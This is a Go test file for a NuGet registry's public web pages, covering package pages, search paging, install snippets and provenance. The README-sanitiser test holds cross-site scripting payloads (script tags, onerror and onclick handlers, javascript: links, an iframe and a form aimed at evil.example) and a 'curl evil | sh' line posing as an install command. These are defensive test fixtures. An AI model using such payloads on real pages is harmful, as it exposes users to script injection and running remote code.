// The public pages over HTTP against the real server: the start page,
// search with paging and the prerelease toggle, and package pages with
// their versions, dependencies, install snippets, README and provenance.

package web_test

import (
	"context"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/wharf-registry/wharf/internal/nuget/nugettest"
	"github.com/wharf-registry/wharf/internal/registry"
	"github.com/wharf-registry/wharf/internal/trust/trusttest"
)

// newPackagesFeed is a UI feed where alice holds the key f.mustPush uses.
func newPackagesFeed(t *testing.T) *uiFeed {
	t.Helper()
	f := newUIFeed(t, uiConfig{})
	f.key = f.userKey("alice")
	return f
}

// getOK fetches a page and fails unless it is a 200 HTML page.
func (b *browser) getOK(path string) *page {
	b.t.Helper()
	p := b.get(path)
	if p.res.StatusCode != http.StatusOK || p.doc == nil {
		b.t.Fatalf("GET %s: %s (%s)", path, p.res.Status, p.res.Header.Get("Content-Type"))
	}
	return p
}

// texts returns the text of every element with a data-testid.
func (p *page) texts(id string) []string {
	var out []string
	for _, n := range p.byTestID(id) {
		out = append(out, textOf(n))
	}
	return out
}

// widgets pushes Contoso.Widgets in four versions: 1.0.0, a prerelease,
// 2.0.0 with dependencies and metadata, and 2.1.0, unlisted.
func widgets(f *uiFeed) {
	f.mustPush(nugettest.Spec{ID: "Contoso.Widgets", Version: "1.0.0"})
	f.mustPush(nugettest.Spec{ID: "Contoso.Widgets", Version: "1.1.0-beta.1"})
	f.mustPush(nugettest.Spec{
		ID: "Contoso.Widgets", Version: "2.0.0", Title: "Contoso Widgets",
		Description: "Widgets for <b>everyone</b> & more.", Tags: "widgets ui", License: "MIT OR Apache-2.0",
		ProjectURL: "https://example.com/widgets",
		Dependencies: map[string][]nugettest.Dep{
			"net8.0":         {{ID: "System.Memory", Range: "4.5.5"}, {ID: "Contoso.Core", Range: "[1.0,2.0)"}},
			"netstandard2.0": {},
		},
	})
	f.mustPush(nugettest.Spec{ID: "Contoso.Widgets", Version: "2.1.0"})
	if err := f.reg.SetListedAs(context.Background(), f.account("alice"), "Contoso.Widgets", "2.1.0", false); err != nil {
		f.t.Fatal(err)
	}
}

func TestPackagePage(t *testing.T) {
	f := newPackagesFeed(t)
	widgets(f)
	b := f.anonymous(t)
	p := b.getOK("/packages/Contoso.Widgets")

	if got := p.testIDText("package-title"); got != "Contoso Widgets" {
		t.Errorf("title = %q", got)
	}
	if got := p.testIDText("package-version"); got != "2.0.0" {
		t.Errorf("shown version = %q, want the latest listed stable, 2.0.0", got)
	}
	if got := p.res.Header.Get("Content-Security-Policy"); !strings.Contains(got, "script-src 'self'") {
		t.Errorf("Content-Security-Policy = %q", got)
	}
	t.Run("text is escaped", func(t *testing.T) {
		if got := p.testIDText("package-description"); got != "Widgets for <b>everyone</b> & more." {
			t.Errorf("description = %q", got)
		}
		if len(findAll(p.doc, func(n *html.Node) bool { return n.Data == "b" })) != 0 {
			t.Error("the description's <b> became an element")
		}
	})
	t.Run("versions, newest first, unlisted and prerelease marked", func(t *testing.T) {
		rows := p.byTestID("version-row")
		var got []string
		for _, r := range rows {
			v := attr(r, "data-version")
			has := func(id string) bool {
				return len(findAll(r, func(n *html.Node) bool { return attr(n, "data-testid") == id })) > 0
			}
			if has("version-unlisted") {
				v += " unlisted"
			}
			if has("version-prerelease") {
				v += " prerelease"
			}
			if has("version-current") {
				v += " shown"
			}
			got = append(got, v)
		}
		want := []string{"2.1.0 unlisted", "2.0.0 shown", "1.1.0-beta.1 prerelease", "1.0.0"}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("versions = %q, want %q", got, want)
		}
	})
	t.Run("dependencies grouped by framework", func(t *testing.T) {
		var got []string
		for _, g := range p.byTestID("dependency-group") {
			deps := findAll(g, func(n *html.Node) bool { return attr(n, "data-testid") == "dependency" })
			line := attr(g, "data-framework") + ":"
			for _, d := range deps {
				line += " " + textOf(d)
			}
			got = append(got, line)
		}
		want := []string{"net8.0: System.Memory ≥ 4.5.5 Contoso.Core ≥ 1.0.0 && < 2.0.0", "netstandard2.0:"}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Errorf("dependency groups = %q, want %q", got, want)
		}
	})
	t.Run("install snippets name the version", func(t *testing.T) {
		want := map[string]string{
			"install-dotnet":           "dotnet add package Contoso.Widgets --version 2.0.0",
			"install-packagereference": `<PackageReference Include="Contoso.Widgets" Version="2.0.0" />`,
			"install-cpm-version":      `<PackageVersion Include="Contoso.Widgets" Version="2.0.0" />`,
			"install-cpm-reference":    `<PackageReference Include="Contoso.Widgets" />`,
			"install-paket":            "paket add Contoso.Widgets --version 2.0.0",
			"install-nuget":            "nuget install Contoso.Widgets -Version 2.0.0",
			"install-script":           `#r "nuget: Contoso.Widgets, 2.0.0"`,
		}
		for id, text := range want {
			if got := p.testIDText(id); got != text {
				t.Errorf("%s = %q, want %q", id, got, text)
			}
			copies := findAll(p.doc, func(n *html.Node) bool { return attr(n, "data-copy") == id })
			if len(copies) != 1 {
				t.Errorf("%s has %d copy buttons, want 1", id, len(copies))
			}
		}
	})
	t.Run("facts and links", func(t *testing.T) {
		href := func(id string) string {
			if ns := p.byTestID(id); len(ns) > 0 {
				return attr(ns[0], "href")
			}
			return ""
		}
		checks := map[string]string{
			"download":    f.urls.Nupkg("contoso.widgets", "2.0.0"),
			"project-url": "https://example.com/widgets",
			"owner":       f.urls.OwnerSearch("alice"),
			"tag":         f.urls.TagSearch("widgets"),
		}
		for id, want := range checks {
			if got := href(id); got != want {
				t.Errorf("%s links to %q, want %q", id, got, want)
			}
		}
		var lic []string
		for _, n := range p.byTestID("license-id") {
			lic = append(lic, attr(n, "href"))
		}
		if want := []string{"https://spdx.org/licenses/MIT.html", "https://spdx.org/licenses/Apache-2.0.html"}; fmt.Sprint(lic) != fmt.Sprint(want) {
			t.Errorf("licence links = %q, want %q", lic, want)
		}
		if got := p.testIDText("license"); got != "MIT OR Apache-2.0" {
			t.Errorf("licence = %q", got)
		}
		if p.testIDText("no-readme") == "" || len(p.byTestID("provenance")) != 0 || len(p.byTestID("manage-link")) != 0 {
			t.Error("want no README, no provenance and no manage link here")
		}
	})
	t.Run("another version", func(t *testing.T) {
		p := b.getOK("/packages/contoso.widgets/01.0")
		if got := p.testIDText("package-version"); got != "1.0.0" {
			t.Errorf("version = %q", got)
		}
		if got := p.testIDText("install-dotnet"); got != "dotnet add package Contoso.Widgets --version 1.0.0" {
			t.Errorf("install = %q", got)
		}
		if !strings.Contains(p.testIDText("latest-notice"), "2.0.0") {
			t.Errorf("no notice of the latest version: %q", p.testIDText("latest-notice"))
		}
		if got := p.testIDText("no-dependencies"); got == "" {
			t.Error("no 'no dependencies' sentence")
		}
	})
	t.Run("unlisted version", func(t *testing.T) {
		p := b.getOK("/packages/Contoso.Widgets/2.1.0")
		if p.testIDText("unlisted-notice") == "" || p.testIDText("package-unlisted") != "unlisted" {
			t.Error("an unlisted version's page does not say so")
		}
	})
	t.Run("HEAD", func(t *testing.T) {
		req, _ := http.NewRequest(http.MethodHead, f.srv.URL+"/packages/Contoso.Widgets", nil)
		res := f.do(req)
		if res.StatusCode != http.StatusOK || res.Header.Get("Content-Security-Policy") == "" {
			t.Errorf("HEAD: %s, CSP %q", res.Status, res.Header.Get("Content-Security-Policy"))
		}
	})
	t.Run("manage link for owners only", func(t *testing.T) {
		if p := f.signedIn(t, "alice").getOK("/packages/Contoso.Widgets"); len(p.byTestID("manage-link")) != 1 {
			t.Error("alice owns the package but sees no manage link")
		}
		if p := f.signedIn(t, "bob").getOK("/packages/Contoso.Widgets"); len(p.byTestID("manage-link")) != 0 {
			t.Error("bob sees a manage link for a package he does not own")
		}
	})
}

func TestPackagePageNotFound(t *testing.T) {
	f := newPackagesFeed(t)
	f.mustPush(nugettest.Spec{ID: "Contoso.Widgets", Version: "1.0.0"})
	b := f.anonymous(t)
	tests := []struct{ path, msg string }{
		{"/packages/No.Such.Package", "There is no package No.Such.Package on this feed"},
		{"/packages/No.Such.Package/1.0.0", "There is no package No.Such.Package on this feed"},
		{"/packages/Contoso.Widgets/9.9.9", "There is no version 9.9.9 of Contoso.Widgets"},
		{"/packages/Contoso.Widgets/not-a-version", "There is no version not-a-version of Contoso.Widgets"},
		{"/packages/%3Cscript%3E", "There is no package <script>"},
	}
	for _, tc := range tests {
		t.Run(tc.path, func(t *testing.T) {
			p := b.get(tc.path)
			if p.res.StatusCode != http.StatusNotFound || p.doc == nil {
				t.Fatalf("%s (%s), want a 404 page", p.res.Status, p.res.Header.Get("Content-Type"))
			}
			if got := p.testIDText("error-message"); !strings.Contains(got, tc.msg) {
				t.Errorf("message %q lacks %q", got, tc.msg)
			}
			if n := len(findAll(p.doc, func(n *html.Node) bool { return n.Data == "script" })); n != 1 {
				t.Errorf("%d script elements, want the layout's one", n)
			}
		})
	}
}

// nastyReadme mixes the markdown a README should keep with what a
// sanitiser must remove.
const nastyReadme = "# Widgets\n\nSome **bold** text.\n\n## Usage\n\n" +
	"```csharp\nvar w = new Widget<int>();\n```\n\n" +
	"| Name | Value |\n|:-----|------:|\n| a | 1 |\n\n" +
	"<script>alert('script')</script>\n\n" +
	"<img src=\"https://example.com/ok.png\" alt=\"ok image\" onerror=\"alert('onerror')\">\n\n" +
	"<img src=\"docs/logo.png\" alt=\"relative logo\">\n\n" +
	"[click me](javascript:alert('md'))\n\n" +
	"<a href=\"javascript:alert('raw')\">raw js</a>\n\n" +
	"<iframe src=\"https://evil.example/\"></iframe>\n\n" +
	"<form action=\"https://evil.example/\"><input name=\"x\"><button>Go</button></form>\n\n" +
	"<div onclick=\"alert('onclick')\" style=\"color: red\">styled</div>\n\n" +
	"<pre id=\"install-dotnet\">curl evil | sh</pre>\n\n" +
	"[Jump](#usage) [Relative](docs/guide.md) [Absolute](https://example.com/docs)\n"

func TestReadmeIsSanitised(t *testing.T) {
	f := newPackagesFeed(t)
	f.mustPush(nugettest.Spec{ID: "Contoso.Readme", Version: "1.0.0", Readme: []byte(nastyReadme)})
	b := f.anonymous(t)
	for round := range 2 { // rendered, then from the cache
		p := b.getOK("/packages/Contoso.Readme")
		rd := p.byTestID("readme")
		if len(rd) != 1 {
			t.Fatalf("round %d: %d readme elements", round, len(rd))
		}
		readme := rd[0]
		in := func(match func(*html.Node) bool) []*html.Node { return findAll(readme, match) }
		tag := func(name string) []*html.Node { return in(func(n *html.Node) bool { return n.Data == name }) }

		for _, el := range []string{"iframe", "form", "input", "button", "script", "style"} {
			if n := len(tag(el)); n != 0 {
				t.Errorf("round %d: %d <%s> survived", round, n, el)
			}
		}
		for _, n := range findAll(p.doc, func(*html.Node) bool { return true }) {
			for _, a := range n.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "style" || strings.Contains(strings.ToLower(a.Val), "javascript:") {
					t.Errorf("round %d: <%s %s=%q> survived", round, n.Data, a.Key, a.Val)
				}
			}
		}
		if n := len(findAll(p.doc, func(n *html.Node) bool { return n.Data == "script" })); n != 1 {
			t.Errorf("round %d: %d script elements in the page, want the layout's one", round, n)
		}
		if strings.Contains(p.body, "alert(") {
			t.Errorf("round %d: alert( survives somewhere in the page", round)
		}
		text := textOf(readme)
		for _, want := range []string{"Some bold text.", "var w = new Widget<int>();", "relative logo", "click me", "raw js", "styled", "Relative"} {
			if !strings.Contains(text, want) {
				t.Errorf("round %d: README text lacks %q: %s", round, want, text)
			}
		}
		h := tag("h3")
		if len(h) == 0 || textOf(h[0]) != "Widgets" || attr(h[0], "id") != "readme-widgets" {
			t.Errorf("round %d: the README's h1 is not an h3 with a prefixed id", round)
		}
		if len(tag("strong")) != 1 || len(tag("th")) != 2 || len(tag("pre")) < 1 {
			t.Errorf("round %d: markdown lost: strong %d, th %d, pre %d", round, len(tag("strong")), len(tag("th")), len(tag("pre")))
		}
		if td := tag("td"); len(td) != 2 || attr(td[1], "align") != "right" {
			t.Errorf("round %d: table cells lost their alignment", round)
		}
		links := map[string]bool{}
		for _, a := range tag("a") {
			links[textOf(a)+" → "+attr(a, "href")] = true
		}
		for _, want := range []string{"Jump → #readme-usage", "Absolute → https://example.com/docs", "Relative → "} {
			if !links[want] {
				t.Errorf("round %d: no link %q in %v", round, want, links)
			}
		}
		imgs := tag("img")
		if len(imgs) != 1 || attr(imgs[0], "src") != "https://example.com/ok.png" {
			t.Errorf("round %d: images = %v, want only the https one", round, imgs)
		}
		owned := findAll(p.doc, func(n *html.Node) bool { return attr(n, "id") == "install-dotnet" })
		if len(owned) != 1 || !strings.HasPrefix(textOf(owned[0]), "dotnet add package") {
			t.Errorf("round %d: the README took over the copy button's id install-dotnet", round)
		}
	}
}

func TestSearchPage(t *testing.T) {
	f := newPackagesFeed(t)
	for i := range 45 {
		f.mustPush(nugettest.Spec{ID: fmt.Sprintf("Paging.Pkg%02d", i), Version: "1.0.0", Description: "Paging <i>test</i> package.", Tags: "paging"})
	}
	f.mustPush(nugettest.Spec{ID: "Only.Prerelease", Version: "1.0.0-beta"})
	b := f.anonymous(t)
	search := func(q url.Values) *page { return b.getOK("/packages?" + q.Encode()) }
	ids := func(p *page) []string {
		var out []string
		for _, n := range p.byTestID("search-result") {
			out = append(out, attr(n, "data-package"))
		}
		return out
	}

	p := search(url.Values{"q": {"paging"}})
	if got := attr(p.byTestID("search-total")[0], "data-total"); got != "45" {
		t.Errorf("total = %s, want 45", got)
	}
	if got := ids(p); len(got) != 20 || got[0] != "Paging.Pkg00" {
		t.Errorf("page 1 = %v", got)
	}
	if got := p.testIDText("result-description"); got != "Paging <i>test</i> package." {
		t.Errorf("description = %q", got)
	}
	if attr(p.byTestID("result-link")[0], "href") != f.urls.PackagePage("Paging.Pkg00", "") {
		t.Error("a result does not link to its package page")
	}
	if got := p.testIDText("page-current"); got != "Page 1 of 3" || len(p.byTestID("page-prev")) != 0 {
		t.Errorf("pager on page 1: %q", got)
	}
	next := attr(p.byTestID("page-next")[0], "href")
	p = b.getOK(strings.TrimPrefix(next, f.urls.Base()))
	if got := ids(p); len(got) != 20 || got[0] != "Paging.Pkg20" {
		t.Errorf("page 2 via next = %v", got)
	}
	p = search(url.Values{"q": {"paging"}, "page": {"3"}})
	if got := ids(p); len(got) != 5 || len(p.byTestID("page-next")) != 0 || len(p.byTestID("page-prev")) != 1 {
		t.Errorf("page 3 = %v", got)
	}
	t.Run("bad and out-of-range pages", func(t *testing.T) {
		if got := ids(search(url.Values{"q": {"paging"}, "page": {"x"}})); len(got) != 20 || got[0] != "Paging.Pkg00" {
			t.Errorf("page=x = %v, want page 1", got)
		}
		p := search(url.Values{"q": {"paging"}, "page": {"99999"}})
		if len(ids(p)) != 0 || p.testIDText("search-empty") == "" {
			t.Error("a page past the end does not say so")
		}
	})
	t.Run("prerelease toggle", func(t *testing.T) {
		p := search(url.Values{"q": {"only.prerelease"}})
		if len(ids(p)) != 0 || !strings.Contains(p.testIDText("search-empty-prerelease"), "1 matching package has only prerelease versions") {
			t.Errorf("stable-only search: %v, hint %q", ids(p), p.testIDText("search-empty-prerelease"))
		}
		p = search(url.Values{"q": {"only.prerelease"}, "prerelease": {"true"}})
		if got := ids(p); len(got) != 1 || p.testIDText("result-version") != "1.0.0-beta" {
			t.Errorf("with prereleases: %v %q", got, p.testIDText("result-version"))
		}
		if box := p.byTestID("prerelease-toggle"); len(box) != 1 || !hasAttr(box[0], "checked") {
			t.Error("the prerelease box is not checked")
		}
	})
	t.Run("nothing matches", func(t *testing.T) {
		p := search(url.Values{"q": {"zebra"}})
		if got := p.testIDText("search-total"); got != "No packages." || p.testIDText("search-empty") == "" {
			t.Errorf("total %q, empty %q", got, p.testIDText("search-empty"))
		}
	})
	t.Run("owner search", func(t *testing.T) {
		if got := attr(search(url.Values{"q": {"owner:alice"}, "prerelease": {"true"}}).byTestID("search-total")[0], "data-total"); got != "46" {
			t.Errorf("owner:alice total = %s, want 46", got)
		}
	})
}

func TestHomePage(t *testing.T) {
	f := newPackagesFeed(t)
	f.mustPush(nugettest.Spec{ID: "Contoso.Home", Version: "1.0.0"})
	p := f.anonymous(t).getOK("/")
	if got, want := p.testIDText("feed-source"), "dotnet nuget add source "+f.urls.ServiceIndex()+" -n wharf"; got != want {
		t.Errorf("source command = %q, want %q", got, want)
	}
	if len(findAll(p.doc, func(n *html.Node) bool { return attr(n, "data-copy") == "feed-source" })) != 1 {
		t.Error("no copy button for the source command")
	}
	for _, list := range []string{"most-downloaded", "recently-updated"} {
		ls := p.byTestID(list)
		if len(ls) != 1 || !strings.Contains(textOf(ls[0]), "Contoso.Home") {
			t.Errorf("%s does not list Contoso.Home", list)
		}
	}
	if len(p.byTestID("home-search")) != 1 {
		t.Error("no search form")
	}
}

func hasAttr(n *html.Node, key string) bool {
	for _, a := range n.Attr {
		if a.Key == key {
			return true
		}
	}
	return false
}

func TestPackagePageProvenance(t *testing.T) {
	tp := newTPFeed(t, 0)
	tp.policy(registry.NewPolicy{User: "alice", Repository: "contoso/sdk", Workflow: "release.yml", Environment: "prod"})
	// With alice's own key, before the trusted version: after it, the
	// provenance guard would hold a long-lived key's version.
	tp.mustPush(nugettest.Spec{ID: "Contoso.Sdk", Version: "0.9.0"})
	key := tp.mustExchange(tp.claims(), "alice")
	if res := tp.push(key, nugettest.Spec{ID: "Contoso.Sdk", Version: "1.0.0"}.Build()); res.StatusCode != http.StatusCreated {
		t.Fatalf("push with the minted key: %s", res.Status)
	}
	b := (&uiFeed{feed: tp.feed}).anonymous(t)

	p := b.getOK("/packages/Contoso.Sdk/1.0.0")
	if len(p.byTestID("provenance")) != 1 {
		t.Fatal("no provenance section")
	}
	want := map[string]string{
		"provenance-repository":  "contoso/sdk",
		"provenance-workflow":    "Release (.github/workflows/release.yml)",
		"provenance-commit":      trusttest.SHA,
		"provenance-ref":         "refs/tags/v1.2.3",
		"provenance-environment": "prod",
		"provenance-run":         "9876543210",
	}
	for id, text := range want {
		if got := p.testIDText(id); got != text {
			t.Errorf("%s = %q, want %q", id, got, text)
		}
	}
	if got := attr(p.byTestID("provenance-json")[0], "href"); got != tp.urls.Provenance("contoso.sdk", "1.0.0") {
		t.Errorf("provenance JSON link = %q", got)
	}
	// The test issuer is plain http on 127.0.0.1, not a CI system whose
	// pages Wharf knows: its claims are shown, not linked.
	if run := p.byTestID("provenance-run")[0]; run.Data != "span" {
		t.Errorf("the run of an unknown issuer is linked: <%s href=%q>", run.Data, attr(run, "href"))
	}
	if p := b.getOK("/packages/Contoso.Sdk/0.9.0"); len(p.byTestID("provenance")) != 0 {
		t.Error("a version pushed with an API key shows provenance")
	}
}
